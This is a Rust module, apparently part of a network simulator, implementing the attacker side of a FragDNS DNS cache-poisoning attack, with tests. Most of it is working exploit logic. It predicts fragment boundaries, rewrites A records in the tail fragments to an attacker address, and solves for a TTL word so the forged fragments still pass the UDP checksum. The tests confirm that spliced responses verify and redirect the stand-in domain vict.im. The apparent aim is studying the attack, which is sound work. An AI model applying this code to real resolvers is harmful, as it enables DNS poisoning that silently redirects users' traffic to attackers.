//! Packet-surgery helpers for the FragDNS attacker.
//!
//! FragDNS replaces the *tail* fragments of a genuine DNS response with
//! attacker-crafted bytes. Three constraints make this fiddly and are handled
//! here exactly as a real exploit would:
//!
//! 1. the malicious tail must decode as valid resource records in the
//!    positions the genuine records occupied (we perform surgical in-place
//!    edits of A-record RDATA rather than re-encoding the message);
//! 2. the **UDP checksum** — computed by the nameserver over the *genuine*
//!    payload and carried in the first (unmodified) fragment — must still
//!    verify over the spliced datagram, so the 16-bit one's-complement sum of
//!    the malicious tail must equal that of the genuine tail; we compensate
//!    by adjusting the low 16 bits of a TTL field that lies inside the tail,
//!    solving for the word in closed form rather than searching for it;
//! 3. the fragment boundaries must match the ones the nameserver will use for
//!    the path MTU the attacker forced via ICMP.

use dns::name::DomainName;
use dns::rdata::RecordType;
use netsim::checksum::Checksum;
use netsim::ipv4::IPV4_HEADER_LEN;
use netsim::udp::UDP_HEADER_LEN;
use std::net::Ipv4Addr;

/// Location of one resource record inside an encoded DNS message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct RecordSpan {
    /// The record's owner name.
    pub owner: DomainName,
    /// Byte offset of the owner name.
    pub name_offset: usize,
    /// Byte offset of the TYPE field.
    pub type_offset: usize,
    /// Byte offset of the TTL field.
    pub ttl_offset: usize,
    /// Byte offset of the RDATA.
    pub rdata_offset: usize,
    /// RDATA length.
    pub rdlength: usize,
    /// The record type.
    pub rtype: RecordType,
}

/// Walks an encoded DNS message and returns the byte spans of every record in
/// the answer, authority and additional sections.
pub(crate) fn record_spans(msg: &[u8]) -> Option<Vec<RecordSpan>> {
    if msg.len() < 12 {
        return None;
    }
    let qdcount = u16::from_be_bytes([msg[4], msg[5]]) as usize;
    let total_records = u16::from_be_bytes([msg[6], msg[7]]) as usize
        + u16::from_be_bytes([msg[8], msg[9]]) as usize
        + u16::from_be_bytes([msg[10], msg[11]]) as usize;
    let mut pos = 12;
    for _ in 0..qdcount {
        let (_, next) = DomainName::decode(msg, pos).ok()?;
        pos = next + 4;
    }
    let mut spans = Vec::with_capacity(total_records);
    for _ in 0..total_records {
        let name_offset = pos;
        let (owner, after_name) = DomainName::decode(msg, pos).ok()?;
        if msg.len() < after_name + 10 {
            return None;
        }
        let rtype = RecordType::from_number(u16::from_be_bytes([msg[after_name], msg[after_name + 1]]));
        let ttl_offset = after_name + 4;
        let rdlength = u16::from_be_bytes([msg[after_name + 8], msg[after_name + 9]]) as usize;
        let rdata_offset = after_name + 10;
        if msg.len() < rdata_offset + rdlength {
            return None;
        }
        spans.push(RecordSpan {
            owner,
            name_offset,
            type_offset: after_name,
            ttl_offset,
            rdata_offset,
            rdlength,
            rtype,
        });
        pos = rdata_offset + rdlength;
    }
    Some(spans)
}

/// The 16-bit one's-complement folded sum of a byte slice (word-aligned).
pub(crate) fn folded_sum(data: &[u8]) -> u16 {
    let mut c = Checksum::new();
    c.add_bytes(data);
    c.folded()
}

/// The smallest 16-bit word that, written at `tail[rel..rel + 2]`, gives
/// `tail` the folded sum `target`, or `None` when no word does.
///
/// The word is solved for, not searched: with it zeroed, the tail sums to
/// `s`, so it must add `r = (target - s) mod 0xffff` in one's-complement
/// arithmetic. At an odd offset its bytes straddle two 16-bit words of the
/// sum, which adds the word rotated by 8 bits; rotating `r` back undoes that.
/// Zero and `0xffff` are the same residue, so `r = 0` has a second candidate.
/// Each candidate, in ascending order, is checked with the exact
/// [`folded_sum`], so the answer is the one a search over every word in
/// ascending order would return.
fn compensation_word(tail: &[u8], rel: usize, target: u16) -> Option<u16> {
    let mut tail = tail.to_vec();
    tail[rel..rel + 2].fill(0);
    let sum = folded_sum(&tail);
    let residue = ((u32::from(target) + 0xffff - u32::from(sum)) % 0xffff) as u16;
    let residue = if rel % 2 == 1 { residue.rotate_left(8) } else { residue };
    let candidates: &[u16] = if residue == 0 { &[0, 0xffff] } else { &[residue] };
    candidates.iter().copied().find(|&word| {
        tail[rel..rel + 2].copy_from_slice(&word.to_be_bytes());
        folded_sum(&tail) == target
    })
}

/// How the nameserver will fragment a UDP datagram of `udp_payload_len`
/// (UDP header + DNS payload) for a path MTU of `mtu`: returns the byte
/// ranges (within the IP payload) of each fragment.
pub(crate) fn fragment_layout(udp_payload_len: usize, mtu: u16) -> Vec<(usize, usize)> {
    let chunk = (usize::from(mtu) - IPV4_HEADER_LEN) & !7;
    assert!(chunk >= 8, "MTU too small");
    let mut out = Vec::new();
    let mut offset = 0;
    while offset < udp_payload_len {
        let end = (offset + chunk).min(udp_payload_len);
        out.push((offset, end));
        offset = end;
    }
    out
}

/// Result of crafting a malicious tail.
#[derive(Debug, Clone)]
pub(crate) struct CraftedTail {
    /// The malicious bytes replacing the genuine IP-payload tail
    /// (everything after the first fragment).
    pub bytes: Vec<u8>,
    /// Offset of the tail within the IP payload (== length of fragment 1's payload).
    pub tail_offset: usize,
    /// How many A records were redirected.
    pub records_redirected: usize,
    /// Owner names of the redirected A records.
    pub redirected_names: Vec<DomainName>,
    /// Whether the UDP checksum could be compensated exactly.
    pub checksum_compensated: bool,
}

/// Crafts the malicious tail for a FragDNS attack.
///
/// * `dns_bytes` — the genuine DNS response payload the attacker learned via
///   reconnaissance (TXID differences live in the first fragment and do not
///   matter here);
/// * `mtu` — the path MTU the attacker forced on the nameserver;
/// * `malicious_addr` — the address to substitute into every A record whose
///   RDATA lies entirely within the tail.
///
/// Returns `None` when the response would not fragment at this MTU or when no
/// A record falls in the tail (nothing to redirect).
pub(crate) fn craft_malicious_tail(dns_bytes: &[u8], mtu: u16, malicious_addr: Ipv4Addr) -> Option<CraftedTail> {
    let udp_payload_len = UDP_HEADER_LEN + dns_bytes.len();
    let layout = fragment_layout(udp_payload_len, mtu);
    if layout.len() < 2 {
        return None;
    }
    // End of fragment 1 within the IP payload.
    let tail_offset = layout[0].1;
    // Position of the tail within the DNS message bytes.
    let dns_tail_start = tail_offset - UDP_HEADER_LEN;

    let spans = record_spans(dns_bytes)?;
    let genuine_tail = &dns_bytes[dns_tail_start..];

    let mut malicious = dns_bytes.to_vec();
    let mut redirected = 0;
    let mut redirected_names = Vec::new();
    for span in &spans {
        if span.rtype == RecordType::A && span.rdlength == 4 && span.rdata_offset >= dns_tail_start {
            malicious[span.rdata_offset..span.rdata_offset + 4].copy_from_slice(&malicious_addr.octets());
            redirected += 1;
            redirected_names.push(span.owner.clone());
        }
    }
    if redirected == 0 {
        return None;
    }

    // Checksum compensation: find a 16-bit word we may freely adjust — the
    // low half of a TTL field lying entirely within the tail (TTL changes do
    // not affect whether the forgery is accepted; they only alter how long it
    // is cached). The tail's last such TTL is used.
    let target_sum = folded_sum(genuine_tail);
    let comp_offset = spans
        .iter()
        .filter(|s| s.ttl_offset + 4 <= dns_bytes.len() && s.ttl_offset + 2 >= dns_tail_start)
        .map(|s| s.ttl_offset + 2)
        .next_back();
    let mut compensated = false;
    if let Some(abs_off) = comp_offset {
        if let Some(word) = compensation_word(&malicious[dns_tail_start..], abs_off - dns_tail_start, target_sum) {
            malicious[abs_off..abs_off + 2].copy_from_slice(&word.to_be_bytes());
            compensated = true;
        }
    }

    Some(CraftedTail {
        bytes: malicious[dns_tail_start..].to_vec(),
        tail_offset,
        records_redirected: redirected,
        redirected_names,
        checksum_compensated: compensated,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use dns::prelude::*;

    fn big_response() -> Message {
        let q = Message::query(0x4242, "vict.im".parse().unwrap(), RecordType::ANY);
        let mut r = Message::response_for(&q);
        r.header.authoritative = true;
        let name: DomainName = "vict.im".parse().unwrap();
        r.answers.push(ResourceRecord::new(name.clone(), 300, RData::Txt("v=spf1 ip4:30.0.0.0/22 -all".into())));
        r.answers.push(ResourceRecord::new(name.clone(), 300, RData::Txt("padding-".repeat(60))));
        r.answers.push(ResourceRecord::new(
            name.clone(),
            300,
            RData::Mx { preference: 10, exchange: "mail.vict.im".parse().unwrap() },
        ));
        r.answers.push(ResourceRecord::new(name.clone(), 300, RData::A("30.0.0.80".parse().unwrap())));
        r.answers.push(ResourceRecord::new(
            "www.vict.im".parse().unwrap(),
            300,
            RData::A("30.0.0.80".parse().unwrap()),
        ));
        r.authorities.push(ResourceRecord::new(name, 300, RData::Ns("ns1.vict.im".parse().unwrap())));
        r
    }

    #[test]
    fn record_spans_cover_all_sections() {
        let r = big_response();
        let bytes = r.encode();
        let spans = record_spans(&bytes).unwrap();
        assert_eq!(spans.len(), r.answers.len() + r.authorities.len());
        // Spans must be in increasing, non-overlapping order.
        for w in spans.windows(2) {
            assert!(w[0].rdata_offset + w[0].rdlength <= w[1].name_offset);
        }
        // A-record spans have 4-byte RDATA.
        for s in spans.iter().filter(|s| s.rtype == RecordType::A) {
            assert_eq!(s.rdlength, 4);
        }
    }

    #[test]
    fn fragment_layout_is_8_byte_aligned() {
        let layout = fragment_layout(1300, 548);
        assert!(layout.len() >= 2);
        assert_eq!(layout[0].0, 0);
        for (start, _) in &layout {
            assert_eq!(start % 8, 0);
        }
        assert_eq!(layout.last().unwrap().1, 1300);
    }

    #[test]
    fn small_payload_single_fragment() {
        assert_eq!(fragment_layout(100, 548).len(), 1);
        let r = Message::query(1, "vict.im".parse().unwrap(), RecordType::A);
        assert!(craft_malicious_tail(&r.encode(), 548, "6.6.6.6".parse().unwrap()).is_none());
    }

    #[test]
    fn crafted_tail_redirects_and_preserves_checksum_sum() {
        let response = big_response();
        let bytes = response.encode();
        let attacker: Ipv4Addr = "6.6.6.6".parse().unwrap();
        let crafted = craft_malicious_tail(&bytes, 548, attacker).expect("response fragments at 548");
        assert!(crafted.records_redirected >= 1);
        assert!(crafted.checksum_compensated, "a TTL word in the tail can absorb the delta");
        // Sum equality with the genuine tail.
        let dns_tail_start = crafted.tail_offset - UDP_HEADER_LEN;
        let genuine_tail = &bytes[dns_tail_start..];
        assert_eq!(folded_sum(&crafted.bytes), folded_sum(genuine_tail));
        assert_eq!(crafted.bytes.len(), genuine_tail.len());
        // Splicing genuine head + malicious tail still decodes and now points
        // at the attacker.
        let mut spliced = bytes[..dns_tail_start].to_vec();
        spliced.extend_from_slice(&crafted.bytes);
        let msg = Message::decode(&spliced).expect("spliced message still parses");
        let redirected = msg.answers.iter().filter(|r| r.rdata.as_ipv4() == Some(attacker)).count();
        assert!(redirected >= 1, "at least one A record now points at the attacker");
    }

    #[test]
    fn splice_passes_udp_checksum_end_to_end() {
        // Full wire-level check: the nameserver computes the UDP checksum
        // over the genuine payload; after replacing the tail fragments with
        // the crafted ones, the reassembled datagram must still verify.
        use netsim::prelude::*;
        let response = big_response();
        let dns_bytes = response.encode();
        let ns: Ipv4Addr = "123.0.0.53".parse().unwrap();
        let resolver: Ipv4Addr = "30.0.0.1".parse().unwrap();
        let genuine = UdpDatagram::new(ns, resolver, 53, 34567, dns_bytes.clone()).into_packet(0x77, 64);
        let frags = netsim::frag::fragment_packet(&genuine, 548);
        assert!(frags.len() >= 2);

        let crafted = craft_malicious_tail(&dns_bytes, 548, "6.6.6.6".parse().unwrap()).unwrap();
        // Rebuild the IP payload: fragment 1 unchanged + malicious tail.
        let mut payload = frags[0].payload.clone();
        payload.extend_from_slice(&crafted.bytes);
        let mut header = frags[0].header;
        header.more_fragments = false;
        let reassembled = Ipv4Packet::new(header, payload);
        let dgram = UdpDatagram::from_packet(&reassembled).expect("UDP checksum must verify after splicing");
        let msg = Message::decode(&dgram.payload).unwrap();
        assert!(msg.answers.iter().any(|r| r.rdata.as_ipv4() == Some("6.6.6.6".parse().unwrap())));
    }

    /// The word a search over every candidate in ascending order finds.
    fn brute_force_word(tail: &[u8], rel: usize, target: u16) -> Option<u16> {
        let mut tail = tail.to_vec();
        (0..=u16::MAX).find(|&word| {
            tail[rel..rel + 2].copy_from_slice(&word.to_be_bytes());
            folded_sum(&tail) == target
        })
    }

    #[test]
    fn closed_form_word_equals_the_brute_force_search() {
        use rand::{Rng, SeedableRng};
        let mut rng = rand_chacha::ChaCha20Rng::seed_from_u64(0xf7a6);
        let mut cases = 0;
        for len in [2usize, 3, 8, 13, 40] {
            for all_zero in [false, true] {
                let tail: Vec<u8> = (0..len).map(|_| if all_zero { 0 } else { rng.gen() }).collect();
                // Every offset, even and odd, including the last word.
                for rel in 0..=len - 2 {
                    let drawn: u16 = rng.gen();
                    // The genuine tail's own sum, a random target, and both
                    // representations of the zero residue.
                    for target in [folded_sum(&tail), drawn, 0x0000, 0xffff] {
                        let expected = brute_force_word(&tail, rel, target);
                        assert_eq!(
                            compensation_word(&tail, rel, target),
                            expected,
                            "len {len}, zero {all_zero}, offset {rel}, target {target:#06x}"
                        );
                        cases += 1;
                    }
                }
            }
        }
        assert!(cases > 200);
    }

    #[test]
    fn checksum_compensation_required_for_acceptance() {
        // Without compensation the checksum (almost certainly) breaks: verify
        // that naive substitution alone would have failed, demonstrating why
        // the compensation word matters.
        let response = big_response();
        let dns_bytes = response.encode();
        let layout = fragment_layout(UDP_HEADER_LEN + dns_bytes.len(), 548);
        let dns_tail_start = layout[0].1 - UDP_HEADER_LEN;
        let genuine_tail = &dns_bytes[dns_tail_start..];
        let mut naive = genuine_tail.to_vec();
        // Replace the last 4 bytes of an A record without compensation.
        let spans = record_spans(&dns_bytes).unwrap();
        let a = spans.iter().find(|s| s.rtype == RecordType::A && s.rdata_offset >= dns_tail_start).unwrap();
        let rel = a.rdata_offset - dns_tail_start;
        naive[rel..rel + 4].copy_from_slice(&Ipv4Addr::new(6, 6, 6, 6).octets());
        assert_ne!(folded_sum(&naive), folded_sum(genuine_tail), "naive substitution changes the sum");
    }
}
